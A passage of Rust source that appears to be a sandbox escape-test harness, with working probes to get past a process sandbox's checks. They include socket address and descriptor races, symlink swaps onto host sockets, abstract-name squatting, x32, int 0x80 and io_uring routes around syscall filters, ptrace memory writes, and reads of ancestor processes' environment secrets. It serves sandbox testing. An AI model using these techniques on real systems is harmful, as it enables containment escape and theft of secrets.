    let prog = libc::sock_fprog { len: 1, filter: keep.as_mut_ptr() };
    let attach = || libc::setsockopt(fd, libc::SOL_SOCKET, libc::SO_ATTACH_FILTER, (&prog as *const libc::sock_fprog).cast(), std::mem::size_of::<libc::sock_fprog>() as u32);
    const SO_LOCK_FILTER: i32 = 44;
    if how == "prelock" {
        say(&format!("own filter locked: {}", attach() == 0 && libc::setsockopt(fd, libc::SOL_SOCKET, SO_LOCK_FILTER, int(&one), 4) == 0));
    }
    let mut sa: libc::sockaddr_in6 = std::mem::zeroed();
    sa.sin6_family = libc::AF_INET6 as libc::sa_family_t;
    sa.sin6_port = port.to_be();
    if libc::bind(fd, (&sa as *const libc::sockaddr_in6).cast(), std::mem::size_of_val(&sa) as u32) != 0 {
        return Some(result(false, "bind [::]"));
    }
    if how == "detach" {
        let unlocked = libc::setsockopt(fd, libc::SOL_SOCKET, SO_LOCK_FILTER, int(&zero), 4) == 0;
        let detached = libc::setsockopt(fd, libc::SOL_SOCKET, libc::SO_DETACH_FILTER, int(&zero), 4) == 0;
        say(&format!("unlocked: {unlocked}, detached: {detached}, own filter: {}", attach() == 0));
    }
    if libc::listen(fd, 128) != 0 {
        return Some(result(false, "listen [::]"));
    }
    libc::fcntl(fd, libc::F_SETFL, libc::O_NONBLOCK);
    let accepted = accept_for(&[fd], secs);
    say(&format!("{accepted} connection(s) accepted"));
    Some(result(accepted > 0, "listen on the dual-stack wildcard address"))
}

unsafe fn udp_send(port: u16, data: &[u8]) -> i32 {
    let fd = libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0);
    if fd < 0 {
        return result(false, "socket(AF_INET, SOCK_DGRAM)");
    }
    let sa = sockaddr_in(port);
    let n = libc::sendto(fd, data.as_ptr().cast(), data.len(), 0, (&sa as *const libc::sockaddr_in).cast(), 16);
    result(n == data.len() as isize, "sendto udp")
}

#[cfg(target_os = "linux")]
unsafe fn raw_udp(port: u16, data: &str) -> i32 {
    let fd = libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_UDP);
    if fd < 0 {
        return result(false, "socket(AF_INET, SOCK_RAW)");
    }
    let len = 8 + data.len();
    let mut pkt = Vec::with_capacity(len);
    pkt.extend_from_slice(&40000u16.to_be_bytes());
    pkt.extend_from_slice(&port.to_be_bytes());
    pkt.extend_from_slice(&(len as u16).to_be_bytes());
    pkt.extend_from_slice(&[0, 0]);
    pkt.extend_from_slice(data.as_bytes());
    let sa = sockaddr_in(0);
    let n = libc::sendto(fd, pkt.as_ptr().cast(), pkt.len(), 0, (&sa as *const libc::sockaddr_in).cast(), 16);
    result(n == pkt.len() as isize, "raw sendto")
}

#[cfg(target_os = "linux")]
unsafe fn netlink_addaddr(addr: &str) -> i32 {
    let ip: std::net::Ipv4Addr = match addr.parse() {
        Ok(a) => a,
        Err(_) => return 2,
    };
    let fd = libc::socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_ROUTE);
    if fd < 0 {
        return result(false, "socket(AF_NETLINK)");
    }
    let idx = libc::if_nametoindex(c"lo".as_ptr());
    let mut m: Vec<u8> = Vec::new();
    let total: u32 = 16 + 8 + 8 + 8;
    m.extend_from_slice(&total.to_ne_bytes());
    m.extend_from_slice(&(libc::RTM_NEWADDR).to_ne_bytes());
    let flags = (libc::NLM_F_REQUEST | libc::NLM_F_CREATE | libc::NLM_F_EXCL | libc::NLM_F_ACK) as u16;
    m.extend_from_slice(&flags.to_ne_bytes());
    m.extend_from_slice(&1u32.to_ne_bytes());
    m.extend_from_slice(&0u32.to_ne_bytes());
    m.extend_from_slice(&[libc::AF_INET as u8, 32, 0, 254]);
    m.extend_from_slice(&idx.to_ne_bytes());
    for ty in [libc::IFA_LOCAL, libc::IFA_ADDRESS] {
        m.extend_from_slice(&8u16.to_ne_bytes());
        m.extend_from_slice(&ty.to_ne_bytes());
        m.extend_from_slice(&ip.octets());
    }
    let mut sa: libc::sockaddr_nl = std::mem::zeroed();
    sa.nl_family = libc::AF_NETLINK as u16;
    let n = libc::sendto(fd, m.as_ptr().cast(), m.len(), 0, (&sa as *const libc::sockaddr_nl).cast(), std::mem::size_of_val(&sa) as u32);
    if n < 0 {
        return result(false, "netlink sendto");
    }
    let mut buf = [0u8; 512];
    let r = libc::recv(fd, buf.as_mut_ptr().cast(), buf.len(), 0);
    let err = if r >= 20 { i32::from_ne_bytes([buf[16], buf[17], buf[18], buf[19]]) } else { -1 };
    say(&format!("netlink ack error={err}"));
    i32::from(err != 0)
}

fn sockaddr_un(name: &[u8], abstract_ns: bool) -> (libc::sockaddr_un, u32) {
    // SAFETY: zeroed sockaddr_un is valid.
    let mut sa: libc::sockaddr_un = unsafe { std::mem::zeroed() };
    sa.sun_family = libc::AF_UNIX as libc::sa_family_t;
    let off = usize::from(abstract_ns);
    for (i, b) in name.iter().take(100).enumerate() {
        sa.sun_path[i + off] = *b as libc::c_char;
    }
    let len = 2 + off + name.len().min(100) + usize::from(!abstract_ns);
    (sa, len as u32)
}

unsafe fn unix_stream(name: &[u8], abstract_ns: bool, data: &str) -> i32 {
    let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
    if fd < 0 {
        return result(false, "socket(AF_UNIX)");
    }
    let (sa, len) = sockaddr_un(name, abstract_ns);
    if libc::connect(fd, (&sa as *const libc::sockaddr_un).cast(), len) != 0 {
        return result(false, "connect unix");
    }
    write_fd(fd, data, "unix stream send")
}

/// Tries to reach the unix socket `target` where only `granted` may be connected to: through a
/// symbolic link to `target` (relative and absolute), then by racing the address — one thread
/// flips the shared `sockaddr_un` between `granted` and `target` while this one connects with it
/// again and again (a checker that reads the address and then lets the kernel redo the call is
/// fooled), and by swapping the descriptor under the call (`dup2` of a fresh socket onto it).
/// Every connection writes `data`.
unsafe fn unix_connect_race(granted: &str, target: &str, data: &str) -> i32 {
    use std::sync::atomic::{AtomicBool, Ordering};
    let mut reached = 0;
    let link = format!("lg-link-{}.sock", std::process::id());
    let _ = std::os::unix::fs::symlink(target, &link);
    let abs = std::env::current_dir().map(|d| d.join(&link).display().to_string()).unwrap_or_default();
    for via in [link.as_str(), abs.as_str()] {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
        let (sa, len) = sockaddr_un(via.as_bytes(), false);
        if fd >= 0 && libc::connect(fd, (&sa as *const libc::sockaddr_un).cast(), len) == 0 {
            say(&format!("connected through the link {via}"));
            libc::write(fd, data.as_ptr().cast(), data.len());
            reached += 1;
        } else {
            say(&format!("link {via}: {}", errno()));
        }
        libc::close(fd);
    }
    let _ = std::fs::remove_file(&link);
    let (a, alen) = sockaddr_un(granted.as_bytes(), false);
    let (b, blen) = sockaddr_un(target.as_bytes(), false);
    let len = alen.max(blen);
    let shared: &'static mut libc::sockaddr_un = Box::leak(Box::new(a));
    let addr = shared as *mut libc::sockaddr_un as usize;
    let stop: &'static AtomicBool = Box::leak(Box::new(AtomicBool::new(false)));
    let victim_fd: &'static std::sync::atomic::AtomicI32 = Box::leak(Box::new(std::sync::atomic::AtomicI32::new(-1)));
    let flipper = std::thread::spawn(move || {
        let mut flip = false;
        while !stop.load(Ordering::Relaxed) {
            let src = if flip { &b } else { &a };
            std::ptr::write_volatile(addr as *mut libc::sockaddr_un, *src);
            flip = !flip;
            // And the descriptor: a fresh unix socket dup2'ed onto the one being connected.
            let v = victim_fd.load(Ordering::Relaxed);
            if flip && v >= 0 {
                let f = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
                if f >= 0 {
                    libc::dup2(f, v);
                    libc::close(f);
                }
            }
        }
    });
    let (mut ok, mut refused) = (0, 0);
    for _ in 0..3000 {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
        if fd < 0 {
            break;
        }
        victim_fd.store(fd, Ordering::Relaxed);
        if libc::connect(fd, addr as *const libc::sockaddr, len) == 0 {
            ok += 1;
            libc::write(fd, data.as_ptr().cast(), data.len());
        } else {
            refused += 1;
        }
        victim_fd.store(-1, Ordering::Relaxed);
        libc::close(fd);
    }
    stop.store(true, Ordering::Relaxed);
    let _ = flipper.join();
    say(&format!("race: {ok} connect(s) succeeded (granted or not), {refused} refused"));
    // Success here proves nothing by itself (the granted socket may take them): the outside
    // check on `target`'s listener decides.
    result(reached > 0 || ok > 0, "connect to the target through a link or a race")
}

/// Accepts and closes every connection pending on the non-blocking listener `l`; how many.
unsafe fn drain_accepts(l: i32) -> usize {
    let mut n = 0;
    loop {
        let c = libc::accept(l, std::ptr::null_mut(), std::ptr::null_mut());
        if c < 0 {
            return n;
        }
        libc::close(c);
        n += 1;
    }
}

/// Accepts on the non-blocking `listeners` for `secs` seconds; the connections that came.
unsafe fn accept_for(listeners: &[i32], secs: u64) -> usize {
    let end = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    let mut accepted = 0;
    while std::time::Instant::now() < end {
        let n: usize = listeners.iter().map(|&l| drain_accepts(l)).sum();
        if n == 0 {
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        accepted += n;
    }
    accepted
}

/// A listening unix stream socket at `path` (relative to the working directory), or -1.
unsafe fn unix_listener_at(path: &str) -> i32 {
    let _ = std::fs::remove_file(path);
    let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
    let (sa, len) = sockaddr_un(path.as_bytes(), false);
    if fd < 0 || libc::bind(fd, (&sa as *const libc::sockaddr_un).cast(), len) != 0 || libc::listen(fd, 64) != 0 {
        say(&format!("own listener {path}: {}", errno()));
        return -1;
    }
    fd
}

/// Reaches the host socket `target` past a runner that connects only to the sandbox's own
/// listeners: the command makes its own listener (which it may connect to), then points its
/// path at `target` — a symbolic link renamed over it, a hard link to `target` — and connects,
/// and races: one thread renames links to its own listener and to `target` over one path while
/// this one connects to that path again and again. Every connection writes `data`.
unsafe fn unix_listen_swap(target: &str, data: &str) -> i32 {
    use std::sync::atomic::{AtomicBool, Ordering};
    let pid = std::process::id();
    let (own, path) = (format!("lg-own-{pid}.sock"), format!("lg-swap-{pid}.sock"));
    let l = unix_listener_at(&own);
    if l >= 0 {
        libc::fcntl(l, libc::F_SETFL, libc::O_NONBLOCK); // the accept loop below must not wait
    }
    let mut tries: Vec<(String, String)> = Vec::new();
    // 1. The listener's own path, replaced by a symbolic link to the target.
    let s = unix_listener_at(&path);
    let tmp = format!("lg-tmp-{pid}");
    let _ = std::os::unix::fs::symlink(target, &tmp);
    if let Err(e) = std::fs::rename(&tmp, &path) {
        say(&format!("rename the link over the listener's path: {e}"));
    }
    tries.push(("the listener's path, now a link to the target".into(), path.clone()));
    // 2. A hard link to the target's socket file.
    let hard = format!("lg-hard-{pid}.sock");
    match std::fs::hard_link(target, &hard) {
        Ok(()) => tries.push(("a hard link to the target".into(), hard.clone())),
        Err(e) => say(&format!("hard link: {e}")),
    }
    let mut reached = 0;
    for (what, p) in &tries {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
        let (sa, len) = sockaddr_un(p.as_bytes(), false);
        if fd >= 0 && libc::connect(fd, (&sa as *const libc::sockaddr_un).cast(), len) == 0 {
            say(&format!("connected through {what}"));
            libc::write(fd, data.as_ptr().cast(), data.len());
            reached += 1;
        } else {
            say(&format!("{what}: {}", errno()));
        }
        libc::close(fd);
    }
    // 3. The race.
    let stop: &'static AtomicBool = Box::leak(Box::new(AtomicBool::new(false)));
    let (t, o, p2) = (target.to_string(), own.clone(), path.clone());
    let flipper = std::thread::spawn(move || {
        let mut flip = false;
        let tmp = format!("lg-flip-{}", std::process::id());
        while !stop.load(Ordering::Relaxed) {
            let _ = std::os::unix::fs::symlink(if flip { &t } else { &o }, &tmp);
            let _ = std::fs::rename(&tmp, &p2);
            flip = !flip;
        }
    });
    let (mut ok, mut refused) = (0, 0);
    let (sa, len) = sockaddr_un(path.as_bytes(), false);
    for _ in 0..2000 {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0);
        if fd < 0 {
            break;
        }
        libc::fcntl(fd, libc::F_SETFL, libc::O_NONBLOCK);
        if libc::connect(fd, (&sa as *const libc::sockaddr_un).cast(), len) == 0 {
            ok += 1;
            libc::write(fd, data.as_ptr().cast(), data.len());
        } else {
            refused += 1;
        }
        libc::close(fd);
        // Keep the own listener's backlog from filling.
        drain_accepts(l);
    }
    stop.store(true, Ordering::Relaxed);
    let _ = flipper.join();
    for f in [&own, &path, &hard] {
        let _ = std::fs::remove_file(f);
    }
    let _ = (s, l);
    say(&format!("race: {ok} connect(s) succeeded (own listener or not), {refused} refused"));
    // Success proves nothing by itself (the own listener takes some): the outside check on
    // `target`'s listener decides.
    result(reached > 0 || ok > 0, "connect to the target through the own listener's path")
}

/// Listens on the abstract unix name `name` for `secs` seconds and accepts what comes: a host
/// process that connects to a name the command squats (an X server's, a D-Bus bus's) talks to
/// the command. Binds it directly, then races: one thread flips the shared address between a
/// pathname and the abstract name while this one binds fresh sockets with it and listens (a
/// runner that checks the address and lets the kernel redo the bind is fooled).
#[cfg(target_os = "linux")]
unsafe fn abstract_listen(name: &[u8], secs: u64) -> i32 {
    use std::sync::atomic::{AtomicBool, Ordering};
    let mut listening = Vec::new();
    let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0);
    let (sa, len) = sockaddr_un(name, true);
    if fd < 0 || libc::bind(fd, (&sa as *const libc::sockaddr_un).cast(), len) != 0 || libc::listen(fd, 16) != 0 {
        say(&format!("bind and listen on the abstract name: {}", errno()));
    } else {
        listening.push(fd);
    }
    let path = format!("lg-squat-{}.sock", std::process::id());
    let (p, plen) = sockaddr_un(path.as_bytes(), false);
    let shared: &'static mut libc::sockaddr_un = Box::leak(Box::new(p));
    let addr = shared as *mut libc::sockaddr_un as usize;
    let stop: &'static AtomicBool = Box::leak(Box::new(AtomicBool::new(false)));
    let flipper = std::thread::spawn(move || {
        let mut flip = false;
        while !stop.load(Ordering::Relaxed) {
            std::ptr::write_volatile(addr as *mut libc::sockaddr_un, if flip { sa } else { p });
            flip = !flip;
        }
    });
    let mut raced = 0;
    for _ in 0..500 {
        let _ = std::fs::remove_file(&path);
        let f = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0);
        if f < 0 {
            break;
        }
        if libc::bind(f, addr as *const libc::sockaddr, len.max(plen)) == 0 && libc::listen(f, 16) == 0 {
            let mut got: libc::sockaddr_un = std::mem::zeroed();
            let mut gl = std::mem::size_of::<libc::sockaddr_un>() as u32;
            libc::getsockname(f, (&mut got as *mut libc::sockaddr_un).cast(), &mut gl);
            if got.sun_path[0] == 0 {
                raced += 1;
                listening.push(f);
                continue;
            }
        }
        libc::close(f);
    }
    stop.store(true, Ordering::Relaxed);
    let _ = flipper.join();
    let _ = std::fs::remove_file(&path);
    say(&format!("{} listener(s) on an abstract name ({raced} from the race)", listening.len()));
    let accepted = accept_for(&listening, secs);
    say(&format!("{accepted} connection(s) accepted on abstract names"));
    result(accepted > 0, "listen on an abstract name the host reaches")
}

/// Sends a datagram to a unix socket address without `connect`, from a socket of `ty`
/// (`SOCK_DGRAM`, or `SOCK_RAW`, which the kernel turns into a datagram socket).
unsafe fn unix_dgram(name: &[u8], abstract_ns: bool, data: &str, ty: i32) -> i32 {
    let mut fd = libc::socket(libc::AF_UNIX, ty, 0);
    if fd < 0 {
        say(&format!("socket(AF_UNIX, type {ty}): {}; trying a socketpair", errno()));
        let mut sv = [0i32; 2];
        if libc::socketpair(libc::AF_UNIX, ty, 0, sv.as_mut_ptr()) != 0 {
            return result(false, &format!("socketpair(AF_UNIX, type {ty})"));
        }
        fd = sv[0];
    }
    let (sa, len) = sockaddr_un(name, abstract_ns);
    let n = libc::sendto(fd, data.as_ptr().cast(), data.len(), 0, (&sa as *const libc::sockaddr_un).cast(), len);
    if n == data.len() as isize {
        return result(true, "unix dgram sendto");
    }
    say(&format!("sendto: {}; trying sendmsg", errno()));
    let mut iov = libc::iovec { iov_base: data.as_ptr() as *mut _, iov_len: data.len() };
    let mut msg: libc::msghdr = std::mem::zeroed();
    msg.msg_name = (&sa as *const libc::sockaddr_un) as *mut _;
    msg.msg_namelen = len;
    msg.msg_iov = &mut iov;
    msg.msg_iovlen = 1;
    result(libc::sendmsg(fd, &msg, 0) == data.len() as isize, "unix dgram sendmsg")
}

#[cfg(target_os = "linux")]
/// Watches a directory with inotify for `ms` milliseconds and prints the name of every entry
/// an event names (creations, opens, deletions by anyone, outside the sandbox included).
unsafe fn inotify_watch(dir: &str, ms: u64) -> i32 {
    let fd = libc::inotify_init1(libc::IN_NONBLOCK | libc::IN_CLOEXEC);
    if fd < 0 {
        return result(false, "inotify_init1");
    }
    let mask = libc::IN_CREATE | libc::IN_OPEN | libc::IN_DELETE | libc::IN_MODIFY | libc::IN_CLOSE_WRITE;
    if libc::inotify_add_watch(fd, c(dir).as_ptr(), mask) < 0 {
        return result(false, "inotify_add_watch");
    }
    say("watching");
    let end = std::time::Instant::now() + std::time::Duration::from_millis(ms);
    let mut seen = 0;
    let mut buf = [0u8; 8192];
    while std::time::Instant::now() < end {
        let n = libc::read(fd, buf.as_mut_ptr().cast(), buf.len());
        if n <= 0 {
            std::thread::sleep(std::time::Duration::from_millis(10));
            continue;
        }
        let mut off = 0usize;
        while off + 16 <= n as usize {
            let len = u32::from_ne_bytes([buf[off + 12], buf[off + 13], buf[off + 14], buf[off + 15]]) as usize;
            let name = &buf[off + 16..(off + 16 + len).min(n as usize)];
            let name = String::from_utf8_lossy(name.split(|&b| b == 0).next().unwrap_or(&[]));
            if !name.is_empty() {
                say(&format!("event: {name}"));
                seen += 1;
            }
            off += 16 + len;
        }
    }
    result(seen > 0, &format!("{seen} inotify events"))
}

#[cfg(all(target_os = "linux", target_arch = "x86_64"))]
const X32_BIT: i64 = 0x4000_0000;

#[cfg(all(target_os = "linux", target_arch = "x86_64"))]
unsafe fn x32_connect(port: u16, data: &str) -> i32 {
    let fd = libc::syscall(X32_BIT | libc::SYS_socket, libc::AF_INET, libc::SOCK_STREAM, 0) as i32;
    if fd < 0 {
        return result(false, "x32 socket");
    }
    let sa = sockaddr_in(port);
    if libc::syscall(X32_BIT | libc::SYS_connect, fd, &sa as *const libc::sockaddr_in, 16) != 0 {
        return result(false, "x32 connect");
    }
    let n = libc::syscall(X32_BIT | libc::SYS_write, fd, data.as_ptr(), data.len());
    result(n == data.len() as i64, "x32 write")
}

#[cfg(all(target_os = "linux", target_arch = "x86_64"))]
/// i386 system calls through `int 0x80` from 64-bit code. Pointers must be below 4 GiB.
mod ia32 {
    use super::{c, result, say};

    /// # Safety
    /// Raw system call; the pointer arguments must be valid 32-bit addresses.
    pub unsafe fn int80(nr: u32, a: u32, b: u32, cc: u32) -> i32 {
        let ret: i32;
        std::arch::asm!(
            "xchg {a:r}, rbx",
            "int 0x80",
            "xchg {a:r}, rbx",
            a = inout(reg) u64::from(a) => _,
            inlateout("eax") nr as i32 => ret,
            in("ecx") b,
            in("edx") cc,
            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
            out("r12") _, out("r13") _, out("r14") _, out("r15") _,
        );
        ret
    }

    unsafe fn low_page() -> Option<*mut u8> {
        let p = libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT, -1, 0);
        if p == libc::MAP_FAILED { None } else { Some(p.cast()) }
    }

    pub unsafe fn connect(port: u16, data: &str) -> i32 {
        let Some(page) = low_page() else { return result(false, "mmap MAP_32BIT") };
        let base = page as usize as u32;
        // socketcall(SYS_SOCKET, [AF_INET, SOCK_STREAM, 0])
        let args = page.cast::<u32>();
        *args = libc::AF_INET as u32;
        *args.add(1) = libc::SOCK_STREAM as u32;
        *args.add(2) = 0;
        let fd = int80(102, 1, base, 0);
        say(&format!("i386 socketcall(SYS_SOCKET) = {fd}"));
        if fd < 0 {
            return 1;
        }
        let sa = super::sockaddr_in(port);
        let sa_ptr = page.add(64);
        std::ptr::copy_nonoverlapping((&sa as *const libc::sockaddr_in).cast::<u8>(), sa_ptr, 16);
        *args = fd as u32;
        *args.add(1) = base + 64;
        *args.add(2) = 16;
        let r = int80(102, 3, base, 0);
        say(&format!("i386 socketcall(SYS_CONNECT) = {r}"));
        if r != 0 {
            return 1;
        }
        let d = page.add(128);
        std::ptr::copy_nonoverlapping(data.as_ptr(), d, data.len().min(256));
        let n = int80(4, fd as u32, base + 128, data.len().min(256) as u32);
        say(&format!("i386 write = {n}"));
        i32::from(n <= 0)
    }

    pub unsafe fn write_file(path: &str, data: &str) -> i32 {
        let Some(page) = low_page() else { return result(false, "mmap MAP_32BIT") };
        let base = page as usize as u32;
        let p = c(path);
        let pb = p.as_bytes_with_nul();
        std::ptr::copy_nonoverlapping(pb.as_ptr(), page, pb.len().min(2048));
        let fd = int80(5, base, (libc::O_WRONLY | libc::O_TRUNC) as u32, 0);
        say(&format!("i386 open = {fd}"));
        if fd < 0 {
            return 1;
        }
        std::ptr::copy_nonoverlapping(data.as_ptr(), page.add(2048), data.len().min(1024));
        let n = int80(4, fd as u32, base + 2048, data.len().min(1024) as u32);
        say(&format!("i386 write = {n}"));
        i32::from(n <= 0)
    }
}

#[cfg(target_os = "linux")]
/// io_uring by hand: one submission at a time.
mod uring {
    use super::{c, result, say};

    #[repr(C)]
    #[derive(Default)]
    struct SqOff { head: u32, tail: u32, ring_mask: u32, ring_entries: u32, flags: u32, dropped: u32, array: u32, resv1: u32, user_addr: u64 }
    #[repr(C)]
    #[derive(Default)]
    struct CqOff { head: u32, tail: u32, ring_mask: u32, ring_entries: u32, overflow: u32, cqes: u32, flags: u32, resv1: u32, user_addr: u64 }
    #[repr(C)]
    #[derive(Default)]
    struct Params { sq_entries: u32, cq_entries: u32, flags: u32, sq_thread_cpu: u32, sq_thread_idle: u32, features: u32, wq_fd: u32, resv: [u32; 3], sq_off: SqOff, cq_off: CqOff }
    #[repr(C)]
    #[derive(Default, Clone, Copy)]
    struct Sqe { opcode: u8, flags: u8, ioprio: u16, fd: i32, off: u64, addr: u64, len: u32, op_flags: u32, user_data: u64, buf_index: u16, personality: u16, splice_fd_in: i32, addr3: u64, pad: u64 }

    struct Ring { fd: i32, sq: *mut u8, cq: *mut u8, sqes: *mut Sqe, p: Params }

    const OP_OPENAT: u8 = 18;
    const OP_WRITE: u8 = 23;
    const OP_CONNECT: u8 = 16;
    const OP_SEND: u8 = 26;
    const OP_SOCKET: u8 = 45;

    unsafe fn setup() -> Option<Ring> {
        let mut p = Params::default();
        let fd = libc::syscall(libc::SYS_io_uring_setup, 4u32, &mut p as *mut Params) as i32;
        if fd < 0 {
            result(false, "io_uring_setup");
            return None;
        }
        let map = |len: usize, off: i64| {
            let m = libc::mmap(std::ptr::null_mut(), len, libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED | libc::MAP_POPULATE, fd, off);
            if m == libc::MAP_FAILED { None } else { Some(m.cast::<u8>()) }
        };
        let sq = map(p.sq_off.array as usize + p.sq_entries as usize * 4, 0)?;
        let cq = map(p.cq_off.cqes as usize + p.cq_entries as usize * 16, 0x800_0000)?;
        let sqes = map(p.sq_entries as usize * 64, 0x1000_0000)?.cast::<Sqe>();
        say("io_uring_setup: ok");
        Some(Ring { fd, sq, cq, sqes, p })
    }

    unsafe fn submit(r: &Ring, sqe: Sqe) -> i32 {
        use std::sync::atomic::{AtomicU32, Ordering};
        let tail = &*(r.sq.add(r.p.sq_off.tail as usize) as *const AtomicU32);
        let mask = *(r.sq.add(r.p.sq_off.ring_mask as usize) as *const u32);
        let t = tail.load(Ordering::Acquire);
        let idx = t & mask;
        *r.sqes.add(idx as usize) = sqe;
        *(r.sq.add(r.p.sq_off.array as usize) as *mut u32).add(idx as usize) = idx;
        tail.store(t.wrapping_add(1), Ordering::Release);
        let n = libc::syscall(libc::SYS_io_uring_enter, r.fd, 1u32, 1u32, 1u32, std::ptr::null::<u8>(), 0usize);
        if n < 0 {
            result(false, "io_uring_enter");
            return -1_000_000;
        }
        let head = &*(r.cq.add(r.p.cq_off.head as usize) as *const AtomicU32);
        let cmask = *(r.cq.add(r.p.cq_off.ring_mask as usize) as *const u32);
        let h = head.load(Ordering::Acquire);
        let cqe = r.cq.add(r.p.cq_off.cqes as usize + ((h & cmask) as usize) * 16);
        let res = *(cqe.add(8) as *const i32);
        head.store(h.wrapping_add(1), Ordering::Release);
        res
    }

    pub unsafe fn socket_connect(port: u16, data: &str) -> i32 {
        let Some(r) = setup() else { return 1 };
        let fd = submit(&r, Sqe { opcode: OP_SOCKET, fd: libc::AF_INET, off: libc::SOCK_STREAM as u64, ..Default::default() });
        say(&format!("io_uring socket = {fd}"));
        if fd < 0 {
            return 1;
        }
        let sa = super::sockaddr_in(port);
        let rc = submit(&r, Sqe { opcode: OP_CONNECT, fd, addr: &sa as *const _ as u64, off: 16, ..Default::default() });
        say(&format!("io_uring connect = {rc}"));
        let n = submit(&r, Sqe { opcode: OP_SEND, fd, addr: data.as_ptr() as u64, len: data.len() as u32, ..Default::default() });
        say(&format!("io_uring send = {n}"));
        i32::from(n <= 0)
    }

    pub unsafe fn open_write(path: &str, data: &str) -> i32 {
        let Some(r) = setup() else { return 1 };
        let p = c(path);
        let fd = submit(&r, Sqe { opcode: OP_OPENAT, fd: libc::AT_FDCWD, addr: p.as_ptr() as u64, len: 0o644, op_flags: (libc::O_WRONLY | libc::O_TRUNC) as u32, ..Default::default() });
        say(&format!("io_uring openat = {fd}"));
        if fd < 0 {
            return 1;
        }
        let n = submit(&r, Sqe { opcode: OP_WRITE, fd, addr: data.as_ptr() as u64, len: data.len() as u32, ..Default::default() });
        say(&format!("io_uring write = {n}"));
        i32::from(n <= 0)
    }
}

#[cfg(target_os = "linux")]
unsafe fn ptrace_poke(pid: i32, addr: u64) -> i32 {
    if libc::ptrace(libc::PTRACE_ATTACH, pid, 0usize, 0usize) != 0 {
        return result(false, "ptrace(PTRACE_ATTACH)");
    }
    let mut st = 0;
    libc::waitpid(pid, &mut st, libc::__WALL);
    let word = u64::from_ne_bytes(*b"PWNED!!!");
    let ok = libc::ptrace(libc::PTRACE_POKEDATA, pid, addr as usize, word as usize) == 0;
    libc::ptrace(libc::PTRACE_DETACH, pid, 0usize, 0usize);
    result(ok, "ptrace(PTRACE_POKEDATA)")
}

#[cfg(target_os = "linux")]
fn read_ancestors_environ() -> i32 {
    let mut pid = std::os::unix::process::parent_id() as i32;
    let mut found = false;
    for _ in 0..32 {
        if pid <= 1 {
            break;
        }
        match std::fs::read(format!("/proc/{pid}/environ")) {
            Ok(b) => {
                for var in b.split(|&x| x == 0) {
                    let s = String::from_utf8_lossy(var);
                    if s.contains("lgsecret") {
                        say(&format!("pid {pid}: {s}"));
                        found = true;
                    }
                }
            }
            Err(e) => say(&format!("pid {pid}: environ: {e}")),
        }
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        pid = crate::engine::stat_fields(&stat).nth(1).and_then(|x| x.parse().ok()).unwrap_or(0);
    }
    i32::from(!found)
}

/// Detaches stdio so a lingering process does not hold the caller's pipes.
unsafe fn detach_stdio() {
    let fd = libc::open(c"/dev/null".as_ptr(), libc::O_RDWR);
    if fd >= 0 {
        for t in 0..3 {
            libc::dup2(fd, t);
        }
    }
}

unsafe fn linger() -> ! {
    loop {
        libc::pause();
    }
}

/// Lingers under the name [`HELD_COMM`]: the effect is complete (see there). Children forked
/// before keep the name they had.
unsafe fn hold() -> ! {
    #[cfg(target_os = "linux")]
    {
        let name = c(HELD_COMM);
        libc::prctl(libc::PR_SET_NAME, name.as_ptr() as libc::c_ulong, 0, 0, 0);
    }
    linger();
}

/// Forks a child that tries `f`; when `f` succeeds the child holds (lingers under
/// [`HELD_COMM`], so the monitor sees it and ends the run one sample later); the parent waits for
/// the child.
#[cfg(target_os = "linux")]
unsafe fn in_child_hold_on_success(what: &str, f: impl FnOnce() -> bool) -> i32 {
    let pid = libc::fork();
    if pid == 0 {
        let ok = f();
        say(&format!("{what}: {}", if ok { "succeeded".to_string() } else { errno().to_string() }));
        if ok {
            detach_stdio();
            hold();
        }
        libc::_exit(1);
    }
    let mut st = 0;
    libc::waitpid(pid, &mut st, 0);
    1
}

/// Signal `pid` with `sig` through one of the calls other than `kill(2)` that send signals
/// (`how`): `tkill`, `tgkill`, `sigqueue` (`rt_sigqueueinfo`), `tgsigqueue`
/// (`rt_tgsigqueueinfo`), `pidfd-procdir` (`pidfd_send_signal` on an open `/proc/PID`
/// directory, which the kernel accepts as a pidfd) or `setown-ex` (SIGIO aimed with
/// `fcntl(F_SETOWN_EX)`, whose target is in memory; the default action terminates).
#[cfg(target_os = "linux")]
unsafe fn signal_via(how: &str, pid: i32, sig: i32) -> i32 {
    // SAFETY (whole body): the calls take plain values or pointers to locals.
    let mut info: libc::siginfo_t = std::mem::zeroed();
    info.si_signo = sig;
    info.si_code = -1; // SI_QUEUE: what sigqueue(3) sends
    let ok = match how {
        "tkill" => libc::syscall(libc::SYS_tkill, pid, sig) == 0,
        "tgkill" => libc::syscall(libc::SYS_tgkill, pid, pid, sig) == 0,
        "sigqueue" => libc::syscall(libc::SYS_rt_sigqueueinfo, pid, sig, &raw const info) == 0,
        "tgsigqueue" => libc::syscall(libc::SYS_rt_tgsigqueueinfo, pid, pid, sig, &raw const info) == 0,
        "pidfd-procdir" => {
            let fd = libc::open(c(&format!("/proc/{pid}")).as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY | libc::O_CLOEXEC);
            if fd < 0 {
                return result(false, "open /proc/PID");
            }
            libc::syscall(libc::SYS_pidfd_send_signal, fd, sig, 0usize, 0) == 0
        }
        "setown-ex" => {
